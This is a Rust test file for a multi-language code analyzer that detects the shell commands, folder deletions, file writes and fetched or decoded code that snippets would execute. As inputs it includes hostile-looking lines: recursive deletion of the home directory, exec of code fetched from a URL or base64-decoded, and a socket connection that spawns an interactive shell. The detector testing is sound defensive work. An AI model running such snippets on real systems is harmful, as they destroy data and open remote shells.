//! Code of several languages, and what is read from it.

use super::*;

fn starts(language: &str, code: &str) -> Vec<String> {
    read(language, code, &[]).starts.iter().map(|words| words.join("|")).collect()
}

#[test]
fn letters_of_other_scripts_are_passed_over() {
    assert_eq!(read("python", "é = 1; ü", &[]), Does::default());
    assert_eq!(read("python", "é; os.system('ls')", &[]).starts, [["ls"]]);
}

#[test]
fn commands_are_read_from_calls_in_every_language() {
    for (language, code, expected) in [
        ("python", "import os; os.system('ls a')", "ls a"),
        ("python", "subprocess.run(['ls', '-l', x])", "ls|-l"),
        ("python", "getattr(os, 'sys' + 'tem')('ls')", "ls"),
        ("python", "c = 'ls'; c += ' a'; os.system(c)", "ls a"),
        ("python", "os.system('ls {}'.format('a'))", "ls a"),
        ("python", "os.system('ls %s' % 'a')", "ls a"),
        ("python", "os.system(' '.join(['ls', 'a']))", "ls a"),
        ("python", "d = 'a'; os.system(f'ls {d}{chr(47)}')", "ls a/"),
        ("python", "from os import system as s; s('ls')", "ls"),
        ("node", "require('child_process')['exec' + 'Sync']('ls a')", "ls a"),
        ("deno", "new Deno.Command('ls', {args: ['-l', 'a']}).outputSync()", "ls|-l|a"),
        ("ruby", "Kernel.send(:system, 'ls a')", "ls a"),
        ("groovy", "'ls a'.execute()", "ls a"),
        ("emacs", "(shell-command \"ls -l\")", "ls -l"),
        ("python", "c = 'ls' + ' a'\nos.system(c)", "ls a"),
        ("perl", "system q(ls a)", "ls a"),
        ("perl", "exec qw(ls a)", "ls|a"),
        ("perl", "open P, \"ls a|\"", "ls a"),
        ("perl", "`ls a`", "ls a"),
        ("ruby", "%x(ls a)", "ls a"),
        ("node", "require('child_process').execSync(\"ls a\", {stdio: 0})", "ls a"),
        ("node", "const {execSync: x} = require('child_process'); x('ls a')", "ls a"),
        ("node", "spawn('ls', ['-l'])", "ls|-l"),
        ("awk", "BEGIN { c = \"ls a\"; system(c) }", "ls a"),
        ("awk", "BEGIN { print \"ls a\" | \"sh\" }", "ls a\nsh"),
        ("awk", "{ print | \"sort\" }", "sort"),
        ("lua", "os.execute('ls' .. ' a')", "ls a"),
        ("python", "exec('import os; os.system(\"ls a\")')", "ls a"),
        ("python", "subprocess.run(args=['ls', 'a'])", "ls|a"),
        ("python", "subprocess.run(['ls', 'a'], cwd='/')", "ls|a"),
        ("python", "c = ['ls', 'a']; subprocess.run(c)", "ls|a"),
        ("python", "os.spawnlp(os.P_WAIT, 'ls', 'ls', 'a')", "ls|a"),
        ("python", "Thread(target=os.system, args=('ls a',)).start()", "ls a"),
        ("python", "os.system(f'ls {os.environ[\"HOME\"]}')", "ls ~"),
        ("python", "os.rename('a', 'b')", "mv|--|a|b"),
        ("bun", "await $`ls a`", "ls a"),
        ("perl", "open(F, \"-|\",\"ls\", \"a\")", "ls|a"),
        ("perl", "exec {\"ls\"} \"ls\", \"a\"", "ls|a"),
        ("perl", "system(\"ls $ENV{HOME}\")", "ls ~"),
        ("perl", "$x = \"l\" . \"s\"; system(\"$x a\")", "ls a"),
        ("perl", "system(join(\" \", \"ls\", \"a\"))", "ls a"),
        ("lua", "os.execute[[ls a]]", "ls a"),
        ("julia", "run(`ls $(homedir())`)", "ls ~"),
        ("Rscript", "system2(\"ls\", c(\"-l\", \"a\"))", "ls|-l|a"),
        ("emacs", "(call-process \"ls\" nil nil nil \"-l\")", "ls|-l"),
        ("awk", "BEGIN { system(sprintf(\"%s a\", \"ls\")) }", "ls a"),
        ("awk", "BEGIN { d = \"a\"; system(\"ls \" d) }", "ls a"),
        ("elixir", ":os.cmd(~c\"ls a\")", "ls a"),
        ("m4", "syscmd(`ls a')", "ls a"),
    ] {
        assert_eq!(starts(language, code).join("\n"), expected, "{code}");
    }
}

#[test]
fn folders_that_are_deleted_are_worked_out() {
    for (language, code, folder) in [
        ("python", "shutil.rmtree(Path.home())", "~"),
        ("python", "shutil.rmtree(os.environ['HOME'], ignore_errors=True)", "~"),
        ("python", "shutil.rmtree(os.path.join(os.path.expanduser('~'), 'a'))", "~/a"),
        ("python", "shutil.rmtree(Path.home() / 'a')", "~/a"),
        ("python", "for d, _, fs in os.walk(os.environ['HOME']): os.unlink(f)", "~"),
        ("node", "fs.rmSync(os.homedir(), {recursive: true})", "~"),
        ("node", "rmSync(process.env.HOME, {recursive: true})", "~"),
        ("node", "await fs.rm('/a', {recursive: true})", "/a"),
        ("ruby", "FileUtils.rm_rf(Dir.home)", "~"),
        ("ruby", "FileUtils.rm_rf('a')", "a"),
        ("perl", "unlink glob q(~/*)", "~/*"),
        ("tclsh", "file delete -force /a", "/a"),
        ("python", "from shutil import rmtree as r; r('/a')", "/a"),
        ("elixir", "File.rm_rf!('/a')", "/a"),
        ("deno", "Deno.removeSync('/a', {recursive: true})", "/a"),
        ("emacs", "(delete-directory \"~\" t)", "~"),
        ("groovy", "new File('/a').deleteDir()", "/a"),
        ("ruby", "Pathname.new('/a').rmtree", "/a"),
        ("node", "require('rimraf').sync('/a')", "/a"),
        ("swift", "FileManager.default.removeItem(atPath:\"/a\")", "/a"),
        ("php", "array_map('unlink', glob('/a/*'))", "/a/*"),
        ("python", "[os.remove(f) for f in glob.glob('/a/*')]", "/a/*"),
    ] {
        assert_eq!(starts(language, code), [format!("rm|-rf|{folder}")], "{code}");
    }
    for code in ["s.replace('/', '_')", "print('rm -rf /')", "x = 'rmtree'", "shutil.rmtree(folder)", "d.remove('/')"] {
        assert!(starts("python", code).is_empty(), "{code}");
    }
}

#[test]
fn texts_that_are_printed_or_saved_are_told() {
    for (language, code, text) in [
        ("python", "print('ls a')", "ls a"),
        ("python", "import sys; sys.stdout.write('ls a')", "ls a"),
        ("node", "console.log('ls a')", "ls a"),
        ("perl", "print \"ls a\"", "ls a"),
        ("ruby", "puts 'ls a'", "ls a"),
        ("php", "echo 'ls a';", "ls a"),
    ] {
        assert_eq!(read(language, code, &[]).prints, [format!("{text}\n")], "{code}");
    }
    for (language, code) in [
        ("python", "open('f', 'w').write('ls a')"),
        ("python", "with open('f', 'w') as o: o.write('ls a')"),
        ("python", "Path('f').write_text('ls a')"),
        ("node", "require('fs').writeFileSync('f', 'ls a')"),
        ("ruby", "File.write('f', 'ls a')"),
        ("perl", "open F, '>f'; print F 'ls a'; close F"),
        ("php", "file_put_contents('f', 'ls a');"),
        ("awk", "BEGIN { print \"ls a\" > \"f\" }"),
    ] {
        assert_eq!(read(language, code, &[]).writes, [("f".to_owned(), "ls a".to_owned())], "{code}");
    }
}

#[test]
fn code_that_was_fetched_or_decoded_is_told() {
    let runs = |code: &str| read("python", code, &[]).runs;
    assert_eq!(runs("exec(urlopen('http://x').read())"), ["fetched"]);
    assert_eq!(runs("t = requests.get(u).text\nexec(t)"), ["fetched"]);
    assert_eq!(runs("subprocess.run(requests.get(u).text, shell=True)"), ["fetched"]);
    assert_eq!(runs("exec(base64.b64decode(x))"), ["decoded"]);
    assert_eq!(runs("fetch(u).then(r => r.text()).then(eval)"), ["fetched"]);
    assert_eq!(runs("s.connect(('h', 1)); subprocess.call(['/bin/sh', '-i'])"), ["socket"]);
    for code in ["print(requests.get(u).text)", "subprocess.run(['curl', '-o', 'f', 'http://x'])", "exec('print(1)')"] {
        assert!(runs(code).is_empty(), "{code}");
    }
}
